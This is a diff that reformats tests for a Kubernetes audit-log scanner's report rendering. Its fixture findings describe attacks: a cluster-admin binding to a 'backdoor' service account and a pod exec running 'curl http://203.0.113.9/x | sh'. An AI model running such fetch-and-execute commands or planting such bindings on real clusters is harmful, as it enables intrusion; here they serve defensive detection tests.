@@ -15,18 +15,58 @@ const finding = registryFinding;
 const located = (f: Finding, source = 'samples/audit.jsonl'): LocatedFinding => ({ finding: f, source });
 
 function summaryOf(findings: readonly LocatedFinding[], overrides: Partial<ScanSummary> = {}): ScanSummary {
-  return { objects: 2, bytes: 3_456_789, events: 12_345, skipped: 11_900, malformed: 2, incomplete: 0, findings: findings.length, bySeverity: countBySeverity(findings), ...overrides };
+  return {
+    objects: 2,
+    bytes: 3_456_789,
+    events: 12_345,
+    skipped: 11_900,
+    malformed: 2,
+    incomplete: 0,
+    findings: findings.length,
+    bySeverity: countBySeverity(findings),
+    ...overrides,
+  };
 }
 
 /** Rows of every kind the table meets: long identifiers, a subresource, a namespaced target, repeats. */
 function realisticFindings(): LocatedFinding[] {
   const controller = 'system:serviceaccount:kube-system:clusterrole-aggregation-controller';
   return [
-    located(finding('rbac.privileged-role-bound', { summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn', target: { resource: 'clusterrolebindings', name: 'pwn' } })),
-    located(finding('rbac.privileged-role-bound', { time: '2026-11-20T11:30:00Z', summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn', target: { resource: 'clusterrolebindings', name: 'pwn' } })),
-    located(finding('exec.pod-exec', { severity: 'medium', actor: { username: controller }, target: { resource: 'pods', subresource: 'exec', namespace: 'databases', name: 'postgres-primary-0' }, summary: `${controller} ran sh -c "curl http://203.0.113.9/x | sh" in pod databases/postgres-primary-0 container postgres` }), 's3://audit-logs/prod/2026/11/20/part-0001.gz'),
-    located(finding('service-account.created-in-system-namespace', { target: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'backdoor' }, summary: 'alice@example.com created ServiceAccount kube-system/backdoor' })),
-    located(finding('image.mutable-tag', { severity: 'info', target: { resource: 'deployments', apiGroup: 'apps', namespace: 'web', name: 'frontend' }, summary: 'deployment web/frontend runs nginx:latest' })),
+    located(
+      finding('rbac.privileged-role-bound', {
+        summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
+        target: { resource: 'clusterrolebindings', name: 'pwn' },
+      }),
+    ),
+    located(
+      finding('rbac.privileged-role-bound', {
+        time: '2026-11-20T11:30:00Z',
+        summary: 'alice@example.com bound cluster-admin to ServiceAccount kube-system/backdoor via ClusterRoleBinding pwn',
+        target: { resource: 'clusterrolebindings', name: 'pwn' },
+      }),
+    ),
+    located(
+      finding('exec.pod-exec', {
+        severity: 'medium',
+        actor: { username: controller },
+        target: { resource: 'pods', subresource: 'exec', namespace: 'databases', name: 'postgres-primary-0' },
+        summary: `${controller} ran sh -c "curl http://203.0.113.9/x | sh" in pod databases/postgres-primary-0 container postgres`,
+      }),
+      's3://audit-logs/prod/2026/11/20/part-0001.gz',
+    ),
+    located(
+      finding('service-account.created-in-system-namespace', {
+        target: { resource: 'serviceaccounts', namespace: 'kube-system', name: 'backdoor' },
+        summary: 'alice@example.com created ServiceAccount kube-system/backdoor',
+      }),
+    ),
+    located(
+      finding('image.mutable-tag', {
+        severity: 'info',
+        target: { resource: 'deployments', apiGroup: 'apps', namespace: 'web', name: 'frontend' },
+        summary: 'deployment web/frontend runs nginx:latest',
+      }),
+    ),
   ];
 }
 
@@ -37,12 +77,32 @@ const linesOf = (text: string): string[] => text.split('\n');
 
 describe('summaryLine', () => {
   it('says what was read, what could not be, and the findings by severity, most severe first', () => {
-    const summary: ScanSummary = { objects: 3, bytes: 1_300_000, events: 12_345, skipped: 11_900, malformed: 2, incomplete: 1, findings: 6, bySeverity: { critical: 1, high: 2, medium: 0, low: 3, info: 0 } };
-    expect(summaryLine(summary)).toBe('3 objects (1.2 MiB), 12,345 events (11,900 skipped), 2 malformed lines, 1 incomplete object · 6 findings: 1 critical, 2 high, 0 medium, 3 low, 0 info');
+    const summary: ScanSummary = {
+      objects: 3,
+      bytes: 1_300_000,
+      events: 12_345,
+      skipped: 11_900,
+      malformed: 2,
+      incomplete: 1,
+      findings: 6,
+      bySeverity: { critical: 1, high: 2, medium: 0, low: 3, info: 0 },
+    };
+    expect(summaryLine(summary)).toBe(
+      '3 objects (1.2 MiB), 12,345 events (11,900 skipped), 2 malformed lines, 1 incomplete object · 6 findings: 1 critical, 2 high, 0 medium, 3 low, 0 info',
+    );
   });
 
   it('always shows malformed lines, shows skipped events and incomplete objects only when there are some, and counts in the singular', () => {
-    const summary: ScanSummary = { objects: 1, bytes: 512, events: 1, skipped: 0, malformed: 0, incomplete: 0, findings: 1, bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 1 } };
+    const summary: ScanSummary = {
+      objects: 1,
+      bytes: 512,
+      events: 1,
+      skipped: 0,
+      malformed: 0,
+      incomplete: 0,
+      findings: 1,
+      bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 1 },
+    };
     expect(summaryLine(summary)).toBe('1 object (512 B), 1 event, 0 malformed lines · 1 finding: 0 critical, 0 high, 0 medium, 0 low, 1 info');
   });
 
@@ -63,12 +123,15 @@ describe('renderTerminal', () => {
     expect(lines[0]).toMatch(/^SEVERITY {2}COUNT {2}RULE +ACTOR +TARGET +FIRST SEEN \(UTC\) {2}LAST SEEN \(UTC\) +SUMMARY$/);
     expect(lines[1]).toMatch(/^-+( {2}-+)+$/);
     expect(lines.slice(2, 2 + rows.length).map((l) => l.split(/ +/)[0])).toEqual(rows.map((r) => r.severity));
-    expect(lines[2]).toMatch(/^critical {6}2 {2}rbac\.privileged-role-bound +alice@example\.com +clusterrolebindings pwn +2026-11-20 10:00 {2}2026-11-20 11:30 {2}bound cluster-admin to ServiceAccount kube-system\/backdoor via ClusterRoleBinding pwn$/);
+    expect(lines[2]).toMatch(
+      /^critical {6}2 {2}rbac\.privileged-role-bound +alice@example\.com +clusterrolebindings pwn +2026-11-20 10:00 {2}2026-11-20 11:30 {2}bound cluster-admin to ServiceAccount kube-system\/backdoor via ClusterRoleBinding pwn$/,
+    );
     expect(lines[2 + rows.length]).toBe('');
     expect(lines[lines.length - 1]).toBe(summaryLine(summary));
     // Columns start at the same place on every line.
     const targetColumn = lines[0].indexOf('TARGET');
-    for (const line of lines.slice(1, 2 + rows.length)) expect([line[targetColumn - 1], line[targetColumn]]).toEqual([' ', line === lines[1] ? '-' : expect.stringMatching(/\S/)]);
+    for (const line of lines.slice(1, 2 + rows.length))
+      expect([line[targetColumn - 1], line[targetColumn]]).toEqual([' ', line === lines[1] ? '-' : expect.stringMatching(/\S/)]);
   });
 
   it('keeps the order it is given', () => {
@@ -83,7 +146,9 @@ describe('renderTerminal', () => {
 
   it('colours each severity with colour: critical bold red, high red, medium yellow, low cyan, info dim', () => {
     const severities: Severity[] = ['critical', 'high', 'medium', 'low', 'info'];
-    const one = aggregate(severities.map((severity) => located(finding('secret.write', { severity, target: { resource: 'secrets', namespace: 'prod', name: severity } }))));
+    const one = aggregate(
+      severities.map((severity) => located(finding('secret.write', { severity, target: { resource: 'secrets', namespace: 'prod', name: severity } }))),
+    );
     const out = renderTerminal(one, summaryOf([]), { colour: true });
     expect(out).toContain(`${ESC}[1;31mcritical${ESC}[0m`);
     expect(out).toContain(`${ESC}[31mhigh${ESC}[0m`);
@@ -131,7 +196,10 @@ describe('renderTerminal', () => {
   });
 
   it('keeps the summary readable (30 characters or more) at 160 columns', () => {
-    const summaryColumn = linesOf(renderTerminal(rows, summary, { colour: false }))[1].split('  ').at(-1) ?? '';
+    const summaryColumn =
+      linesOf(renderTerminal(rows, summary, { colour: false }))[1]
+        .split('  ')
+        .at(-1) ?? '';
     expect(summaryColumn.length).toBeGreaterThanOrEqual(30);
   });
 
@@ -173,7 +241,9 @@ describe('renderTerminal', () => {
 });
 
 describe('renderPlainText', () => {
-  const many = Array.from({ length: 30 }, (_, i) => located(finding('secret.read', { severity: 'medium', target: { resource: 'secrets', namespace: 'prod', name: `db-${i}` } })));
+  const many = Array.from({ length: 30 }, (_, i) =>
+    located(finding('secret.read', { severity: 'medium', target: { resource: 'secrets', namespace: 'prod', name: `db-${i}` } })),
+  );
   const rows = aggregate(many);
   const summary = summaryOf(many);
 
@@ -285,7 +355,15 @@ describe('renderMarkdown', () => {
   });
 
   it('escapes | wherever it appears, so a value cannot add a cell', () => {
-    const piped = aggregate([located(finding('exec.pod-exec', { actor: { username: 'a|b' }, summary: 'ran sh -c "curl x | sh"', target: { resource: 'pods', subresource: 'exec', namespace: 'ns', name: 'p' } }))]);
+    const piped = aggregate([
+      located(
+        finding('exec.pod-exec', {
+          actor: { username: 'a|b' },
+          summary: 'ran sh -c "curl x | sh"',
+          target: { resource: 'pods', subresource: 'exec', namespace: 'ns', name: 'p' },
+        }),
+      ),
+    ]);
     const row = linesOf(renderMarkdown(piped, summaryOf([]))).at(-1) ?? '';
     expect(row.match(/(?<!\\)\|/g)).toHaveLength(9);
     expect(cellsOf(row)[3]).toBe('`a\\|b`');
@@ -299,7 +377,10 @@ describe('renderMarkdown', () => {
   });
 
   it('puts identifiers with backticks in a longer code fence', () => {
-    const ticked = aggregate([located(finding('secret.write', { actor: { username: 'a`b``c' } })), located(finding('secret.write', { actor: { username: '`x`' } }))]);
+    const ticked = aggregate([
+      located(finding('secret.write', { actor: { username: 'a`b``c' } })),
+      located(finding('secret.write', { actor: { username: '`x`' } })),
+    ]);
     const lines = linesOf(renderMarkdown(ticked, summaryOf([])));
     expect(lines.map((l) => (l.startsWith('| ') ? cellsOf(l)[3] : ''))).toEqual(expect.arrayContaining(['```a`b``c```', '`` `x` ``']));
   });
